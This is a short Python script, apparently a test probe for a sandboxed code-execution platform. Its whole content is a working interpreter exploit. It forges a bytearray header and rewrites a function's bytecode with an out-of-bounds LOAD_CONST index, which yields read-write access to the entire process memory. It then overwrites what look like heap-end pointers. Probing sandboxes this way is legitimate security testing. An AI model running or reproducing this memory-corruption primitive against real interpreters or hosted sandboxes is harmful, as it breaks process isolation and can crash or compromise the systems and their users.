"""Writes an absurd end of the heap where the interpreter keeps it: what the host says about memory may not follow."""
from platform_sdk import send_output
import opcode, struct

WORD = struct.calcsize("P")
HEAD = bytes.__basicsize__ - 1

def words(*values):
    return b"".join((value & ((1 << 8 * WORD) - 1)).to_bytes(WORD, "little") for value in values)

def whole_memory():
    def take():
        return 0
    array = words(1 << 20, id(bytearray), 2**31 - 1, 2**31 - 1, 0, 0, 0)
    slot = words(id(array) + HEAD)
    first = id(take.__code__.co_consts) + tuple.__basicsize__
    index = ((id(slot) + HEAD - first) // WORD) & 0xFFFFFFFF
    code = bytes([opcode.opmap["RESUME"], 0])
    for shift in (24, 16, 8):
        code += bytes([opcode.opmap["EXTENDED_ARG"], index >> shift & 255])
    take.__code__ = take.__code__.replace(
        co_code=code + bytes([opcode.opmap["LOAD_CONST"], index & 255, opcode.opmap["RETURN_VALUE"], 0]))
    return take(), array, slot

memory, *keep = whole_memory()
send_output("HELD:before")
# Heap ends are whole pages; the interpreter keeps its own among its static data, far below what is allocated.
first, last = 1024, min(id(object()), 4 << 20) & ~(WORD - 1)
values = memoryview(bytes(memory[first:last])).cast("I" if WORD == 4 else "Q")
for place, value in enumerate(values):
    if value & 0xFFFF == 0 and 4 << 20 <= value <= 128 << 20:
        at = first + place * WORD
        memory[at:at + WORD] = words(0xFFFF0000)
